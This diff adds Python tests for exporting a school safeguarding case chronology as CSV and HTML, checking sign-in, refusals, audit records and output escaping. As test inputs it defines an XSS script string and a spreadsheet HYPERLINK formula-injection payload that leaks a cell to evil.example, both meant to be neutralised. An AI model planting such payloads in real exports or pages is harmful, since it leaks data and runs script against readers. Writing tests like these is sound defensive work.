@@ -1,0 +1,219 @@
+"""Exporting a case chronology (CSV and a printable page) over real HTTP on loopback.
+
+The case is handled through the chat on the same bot; the export is signed in like the web chat.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import AsyncIterator
+from contextlib import asynccontextmanager
+
+from aiohttp import web
+from aiohttp.test_utils import TestClient, TestServer
+from sqlalchemy import select
+
+from bot.app import Bot, create_app
+from bot.services.export import safe_cell
+from bot.services.reports import read_answers
+from storage.models import Event
+from tests.alerts.test_alerts import DSL, file_concern
+from tests.support.harness import Chat
+from tests.support.reports import event_kinds, only_report
+from tests.support.walk import STAFF
+
+SCRIPT = "<script>alert('x')</script> AB showed me messages in the class group chat."
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")'
+Client = TestClient[web.Request, web.Application]
+
+
+@asynccontextmanager
+async def serve(bot: Bot, email: str | None = None) -> AsyncIterator[Client]:
+    """The real application on a loopback port; signed in as `email` if one is given."""
+    async with TestClient(TestServer(create_app(bot, run_scheduler=False))) as client:
+        if email is not None:
+            response = await client.post("/api/web/login", json={"email": email})
+            assert response.status == 200, await response.text()
+        yield client
+
+
+async def handled_case(bot: Bot) -> int:
+    """A concern the DSL acknowledged, noted, acted on and closed, through the chat."""
+    await file_concern(bot, what_happened=SCRIPT)
+    case = (await only_report(bot)).id
+    dsl = Chat(bot, DSL)
+    await dsl.click(f"case:ack:{case}")
+    await dsl.click(f"case:note:{case}")
+    await dsl.send(FORMULA)
+    await dsl.click("__submit")
+    await dsl.click(f"case:action:{case}")
+    await dsl.click("police")
+    await dsl.send("Called 101, ref 12345; officer to visit.")
+    await dsl.send("today 10:00")
+    await dsl.click("__submit")
+    await dsl.click(f"case:close:{case}")
+    await dsl.click("referred_police")
+    await dsl.send("Police are visiting the family.")
+    await dsl.send("Threats in the messages: a referral was needed.")
+    await dsl.click("__submit")
+    dsl.assert_reply("close a case for")
+    return case
+
+
+async def exports(bot: Bot) -> list[dict[str, object]]:
+    async with bot.router.sessions() as session:
+        found = await session.scalars(select(Event).where(Event.kind == "exported"))
+        return [{"who": e.actor_email, **e.detail} for e in found]
+
+
+async def test_the_dsl_exports_the_chronology_as_csv(make_bot):
+    bot = await make_bot()
+    case = await handled_case(bot)
+    report = await only_report(bot)
+    rows = (await read_answers(cipher=bot.cipher, report=report))["rows"]
+    async with serve(bot, DSL) as client:
+        response = await client.get(f"/api/web/cases/{case}/chronology.csv")
+        assert response.status == 200, await response.text()
+        body = await response.read()
+
+    assert response.headers["Cache-Control"] == "no-store"
+    assert response.content_type == "text/csv"
+    assert "attachment" in response.headers["Content-Disposition"]
+    assert f"{report.reference}-chronology.csv" in response.headers["Content-Disposition"]
+    assert body.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs for UTF-8
+    table = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
+    assert table[0] == ["Confidential: safeguarding record"]
+    header = {row[0]: row[1] for row in table[1:10] if len(row) == 2}
+    assert header["Reference"] == report.reference
+    assert header["Reported by"] == "Tom Brannigan (t.brannigan@example.org)"
+    assert header["Reported at"] == "2026-11-24 10:30"  # the school's time (GMT in November)
+    assert header["Status"].startswith("Closed")
+
+    start = table.index(["Question", "Answer"]) + 1
+    answers = table[start : start + len(rows)]
+    assert answers == [[r["question"], safe_cell(r["answer"])] for r in rows]
+    assert SCRIPT in [answer for _, answer in answers]
+
+    heading = next(i for i, row in enumerate(table) if row[:1] == ["Date and time (Europe/London)"])
+    lines = table[heading + 1 :]
+    assert len(lines) == len(await event_kinds(bot, report))  # every entry, this export too
+    whats = [line[2] for line in lines]
+    assert whats.index("Added a note") < whats.index("Recorded an action: Referred to the police")
+    assert whats.index("Recorded an action: Referred to the police") < whats.index(
+        "Closed the case: Referred to the police"
+    )
+    assert lines[0][1:3] == ["Tom Brannigan (t.brannigan@example.org)", "Sent the report"]
+    assert lines[-1][1:] == [
+        "Alice Hartley (a.hartley@example.org)",
+        "Exported the chronology",
+        "Format: CSV",
+    ]  # the export is in its own record
+    (note,) = [line for line in lines if line[2] == "Added a note"]
+    assert note[3] == f"'{FORMULA}"  # shown as text, never run as a formula
+    (action,) = [line for line in lines if line[2].startswith("Recorded an action")]
+    assert action[3] == "When: 2026-11-24 10:00\nDetails: Called 101, ref 12345; officer to visit."
+    (closed,) = [line for line in lines if line[2].startswith("Closed the case")]
+    assert "Outcome: Police are visiting the family." in closed[3]
+    assert "Reasons: Threats in the messages" in closed[3]
+    assert await exports(bot) == [{"who": DSL, "format": "csv"}]
+
+
+async def test_a_cell_that_starts_like_a_formula_is_kept_as_text(make_bot):
+    bot = await make_bot()
+    await file_concern(bot, what_happened=FORMULA, pupils="-1+2 @everyone")
+    case = (await only_report(bot)).id
+    dsl = Chat(bot, DSL)
+    await dsl.click(f"case:note:{case}")
+    await dsl.send("+44 7700 900123 rang: " + FORMULA)
+    await dsl.click("__submit")
+    async with serve(bot, DSL) as client:
+        body = await (await client.get(f"/api/web/cases/{case}/chronology.csv")).read()
+
+    cells = [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]
+    assert f"'{FORMULA}" in cells
+    assert "'-1+2 @everyone" in cells
+    risky = [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"}]
+    assert risky == []
+    assert [safe_cell(v) for v in ("=1", "+1", "-1", "@x", "\tx", "\rx", "ok", "")] == [
+        "'=1",
+        "'+1",
+        "'-1",
+        "'@x",
+        "'\tx",
+        "'\rx",
+        "ok",
+        "",
+    ]
+
+
+async def test_the_dsl_exports_a_printable_page_with_everything_escaped(make_bot):
+    bot = await make_bot()
+    case = await handled_case(bot)
+    report = await only_report(bot)
+    async with serve(bot, DSL) as client:
+        response = await client.get(f"/api/web/cases/{report.reference}/chronology.html")
+        assert response.status == 200, await response.text()
+        page = await response.text()
+
+    assert response.headers["Content-Security-Policy"].startswith(
+        "default-src 'none'; style-src 'unsafe-inline'"
+    )
+    assert response.headers["Cache-Control"] == "no-store"
+    assert response.content_type == "text/html"
+    disposition = response.headers["Content-Disposition"]
+    assert disposition == f'inline; filename="{report.reference}-chronology.html"'
+    assert "<script" not in page
+    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in page
+    assert "Confidential: safeguarding record" in page
+    assert "@media print" in page
+    assert "Exported by Alice Hartley (a.hartley@example.org) on 2026-11-24 10:30" in page
+    assert page.index("Added a note") < page.index("Closed the case: Referred to the police")
+    assert "=HYPERLINK(&quot;http://evil.example/" in page
+    assert await exports(bot) == [{"who": DSL, "format": "html"}]
+    assert case == report.id
+
+
+async def test_each_export_is_recorded(make_bot):
+    bot = await make_bot()
+    case = await handled_case(bot)
+    async with serve(bot, DSL) as client:
+        for path in ("chronology.csv", "chronology.html", "chronology.csv"):
+            assert (await client.get(f"/api/web/cases/{case}/{path}")).status == 200
+    assert [e["format"] for e in await exports(bot)] == ["csv", "html", "csv"]
+
+
+async def test_staff_are_refused_and_the_attempt_is_recorded(make_bot):
+    bot = await make_bot()
+    case = await handled_case(bot)
+    async with serve(bot, STAFF) as client:
+        response = await client.get(f"/api/web/cases/{case}/chronology.csv")
+        text = await response.text()
+    assert response.status == 403
+    assert text.startswith("Only the DSL, the deputies and the headteacher")
+    assert response.headers["Cache-Control"] == "no-store"
+    assert "Police are visiting" not in text
+    assert await exports(bot) == []
+    async with bot.router.sessions() as session:
+        refused = await session.scalar(select(Event).where(Event.kind == "refused"))
+    assert (refused.actor_email, refused.report_id, refused.detail) == (
+        STAFF,
+        case,
+        {"action": "export"},
+    )
+
+
+async def test_not_signed_in_and_unknown_cases(make_bot):
+    bot = await make_bot()
+    case = await handled_case(bot)
+    kinds = await event_kinds(bot)
+    async with serve(bot) as client:
+        anonymous = await client.get(f"/api/web/cases/{case}/chronology.html")
+        assert anonymous.status == 401
+        assert "sign in" in await anonymous.text()
+        assert (await client.post("/api/web/login", json={"email": DSL})).status == 200
+        for key in ("99999", "OS-2026-99999", "nonsense"):
+            missing = await client.get(f"/api/web/cases/{key}/chronology.csv")
+            assert missing.status == 404
+            assert "could not be found" in await missing.text()
+    assert await event_kinds(bot) == kinds  # nothing was exported, nothing refused
